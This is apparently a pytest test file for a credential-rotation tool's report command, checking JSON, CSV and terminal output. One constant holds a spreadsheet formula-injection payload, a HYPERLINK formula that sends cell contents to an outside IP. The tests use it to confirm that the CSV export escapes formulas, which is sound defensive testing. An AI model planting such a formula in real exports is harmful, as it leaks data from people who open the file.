"""The report: one line for each credential, and why it is not as it should be."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from store import rotations
from store.database import Tx
from tests.cli.ground import Ground, done, keyturn, on_terminal, with_service, without_secrets
from tests.store.ground import add_rotation

MALICE = '=HYPERLINK("http://203.0.113.1/?"&A1)'


def at(days: float) -> datetime:
    return datetime.now(UTC) - timedelta(days=days)


def hold(tx: Tx, rotation: str, slot: int, age: float, expires_at: datetime | None = None) -> None:
    rotations.put_credential(
        tx,
        id=f"{rotation}-{slot}",
        rotation_id=rotation,
        slot=slot,
        public={},
        values={"password": "hunter2"},
        issued_at=at(age),
        expires_at=expires_at,
        attempt_id="a",
    )


STATES: dict[str, tuple[dict[str, Any], dict[int, float]]] = {
    "good": ({}, {0: 30.5, 1: 60.5}),
    "old": ({}, {0: 31.5, 1: 61.5}),
    "failing": ({"rotation_status": "failed", "last_rotation_message": "no such user"}, {0: 1}),
    "paused": ({"is_auto_rotation_enabled": False}, {0: 1}),
    "expired": ({}, {0: 1}),
    "fresh": ({"last_rotated_at": None}, {}),
}


@pytest.fixture
def filled(ready: Path) -> None:
    def fill(tx: Tx) -> None:
        for name, (columns, ages) in STATES.items():
            row = add_rotation(tx, name)
            parameters = {"username1": MALICE if name == "good" else "a", "username2": "b,\nc"}
            rotations.update_fields(
                tx,
                row.id,
                **{"last_rotated_at": at(1), "next_rotation_at": at(-3), "parameters": parameters, **columns},
            )
            for slot, age in ages.items():
                hold(tx, name, slot, age, at(0.5) if name == "expired" else None)

    with_service(lambda service: service.store.write(fill))


@pytest.mark.usefixtures("filled")
def test_each_credential_is_judged() -> None:
    lines = done("report", "--json").json["credentials"]
    judged = {(line["rotation"], line["state"]): (line["ageDays"], line["compliant"], line["why"]) for line in lines}
    assert judged == {
        ("good", "active"): (30, True, ""),
        ("good", "inactive"): (60, True, ""),
        ("old", "active"): (31, False, "older than its interval and a day"),
        ("old", "inactive"): (61, False, "older than two intervals and a day"),
        ("failing", "active"): (1, False, "failing: no such user"),
        ("paused", "active"): (1, False, "paused"),
        ("expired", "active"): (1, False, "expired"),
        ("fresh", "none"): (None, False, "never rotated"),
    }
    first = next(line for line in lines if line["rotation"] == "good")
    assert (first["identity"], first["slot"], first["intervalDays"]) == (MALICE, 0, 30)
    assert (first["project"], first["environment"], first["path"]) == ("default", "dev", "/")
    assert (first["type"], first["connection"]) == ("postgres-credentials", "for-good")
    for name in ("issuedAt", "nextRunAt"):
        assert datetime.fromisoformat(first[name]).tzinfo == UTC
        assert first[name].endswith("Z")


@pytest.mark.usefixtures("filled")
def test_csv_is_read_back_as_it_was_and_holds_no_formula() -> None:
    text = done("report", "--format", "csv").out
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 8
    assert not [cell for row in rows for cell in row.values() if cell.lstrip().startswith(("=", "+", "-", "@"))]
    identities = {row["identity"] for row in rows if row["rotation"] == "good"}
    assert identities == {f"'{MALICE}", "b,\nc"}
    assert {row["compliant"] for row in rows} == {"yes", "no"}
    assert without_secrets(text, ["hunter2"])
    expired = next(row for row in rows if row["rotation"] == "expired")
    assert datetime.fromisoformat(expired["expires_at"]) < datetime.now(UTC)
    assert expired["expires_at"].endswith("Z")


@pytest.mark.usefixtures("filled")
def test_the_table_is_for_people_and_for_programs() -> None:
    lines = done("report").lines
    assert {len(line) for line in lines} == {17}
    code, screen = on_terminal("report", columns=120)
    assert code == 0
    assert "2 of 8 credentials are as they should be." in screen
    assert screen.startswith("ROTATION")
    assert max(len(line) for line in screen.splitlines()) <= 120


def test_a_report_on_what_was_really_rotated(connected: Ground) -> None:
    assert done("report", "--json").json["credentials"] == []
    connected.create()
    lines = done("report", "--json", "--project", "default").json["credentials"]
    assert [(line["identity"], line["slot"], line["compliant"], line["ageDays"]) for line in lines] == [
        (connected.users[0], 0, True, 0),
        (connected.users[1], 1, True, 0),
    ]
    assert {line["state"] for line in lines} == {"active", "inactive"}
    assert keyturn("report", "--project", "nope").code == 3
    assert keyturn("report", "--json", "--format", "csv").code == 2
